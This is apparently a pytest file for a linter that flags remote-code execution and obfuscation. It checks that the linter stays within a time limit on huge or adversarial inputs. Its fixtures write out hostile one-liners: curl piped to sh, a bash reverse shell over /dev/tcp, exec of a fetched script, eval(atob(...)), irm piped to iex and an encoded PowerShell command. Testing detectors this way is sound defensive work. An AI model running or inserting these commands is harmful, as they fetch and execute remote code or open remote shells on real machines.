"""Code made to keep an analysis busy is read within a bound, and what is left out of it is told."""

from __future__ import annotations

import time
from collections.abc import Sequence

import pytest

from tests.lint.tables import view
from trace2skill.lint import RULES, Options
from trace2skill.lint.engine import run

MEGA = 1_000_000
SHELL = (
    "$(", "`", "|", "'", '"', "${", "((", "\\\\", "<<A\n", "<(", "$'", "a=$b;", "{a,", "x|sh\n", "curl $(",
    "${IFS}",
)  # fmt: skip
JAVASCRIPT = (
    "`\\`", "/*", "eval(`${", "=>", "eval(fetch(a).then(b=>", "eval(atob(f(()=>{",
    "_0x41['\\x41\\x41\\x41'],", "/[",
)  # fmt: skip
WINDOWS = ("iex ", "irm a;", "$a=irm $a;", "certutil ")
BLOBS = ("12, ", "%41", "\\x41", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo= ", "A\n", "nc ")
SECONDS = 30
"""For the whole table, on a slow machine; each text alone takes far less than a second."""


def _texts(pieces: Sequence[str]) -> list[str]:
    lines = "\n".join(f"a{number}=$b" for number in range(100_000))
    repeated = [piece * (MEGA // 5 // len(piece)) for piece in pieces]
    every = "".join(piece * 40 for piece in pieces)
    return [
        *repeated,
        every * (MEGA // len(every)),
        "$(" * (MEGA // 2),
        lines,
        "QUJD" * (MEGA // 4),
        "curl -s " + "(" * 100_000 + "| sh",
    ]


@pytest.mark.parametrize(
    ("name", "pieces"), [("a.sh", SHELL), ("a.js", JAVASCRIPT), ("a.ps1", WINDOWS), ("a.txt", BLOBS)]
)
def test_hostile_code_is_read_within_a_bound(name: str, pieces: Sequence[str]) -> None:
    begun = time.process_time()
    rules = [rule for rule in RULES if rule.family in ("EX", "OB")]
    for text in _texts(pieces):
        run(view({name: text}), rules, Options())
    assert time.process_time() - begun < SECONDS


@pytest.mark.parametrize(
    "code",
    [
        "(" * 5000,
        "x = " + "a.b(" * 900 + ")" * 900,
        "x = " + "+".join(["a"] * 20_000),
        "if x:\n" * 90,
        "f(" * 80,
    ],
)
def test_hostile_python_is_read_within_a_bound(code: str) -> None:
    begun = time.process_time()
    run(view({"a.py": code}), RULES, Options())
    assert time.process_time() - begun < SECONDS


DENSE = {
    "a.sh": "curl http://a|sh\n",
    "b.sh": "bash -i >& /dev/tcp/a/1 0>&1\n",
    "a.py": "exec(requests.get(u).text)\n",
    "a.js": "eval(atob('a'));\n",
    "a.ps1": "irm http://a|iex\n",
    "a.rb": "system('curl http://a|sh')\n",
    "a.txt": "http://93.184.216.34 powershell -e QUJDREVGR0hJSktMQUJDREVGR0hJSktM\n",
}


def test_thousands_of_true_hits_are_read_within_a_bound() -> None:
    begun = time.process_time()
    rules = [rule for rule in RULES if rule.family in ("EX", "OB")]
    for name, row in DENSE.items():
        run(view({name: row * (MEGA // len(row) // 8)}), rules, Options())
    assert time.process_time() - begun < SECONDS


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.sh", "echo hello\n" * 50_000),
        ("a.sh", "curl http://a|sh\n" * 600),
        ("a.sh", "x " + "$(echo " * 9 + ")" * 9),
        ("a.py", "x = 1\n" * 40_000),
        ("a.txt", "curl http://a|sh\n" * 5_000),
        ("a.txt", "QUJDREVGR0hJSktMQUJDREVGR0hJSktM\n\n" * 300),
        ("a.js", "eval(atob('a'));\n" * 50_000),
    ],
)
def test_what_is_too_much_to_follow_is_told(name: str, text: str) -> None:
    report = run(view({name: text}), RULES, Options())
    assert {(one.path, one.reason) for one in report.unread} == {(name, "budget")}
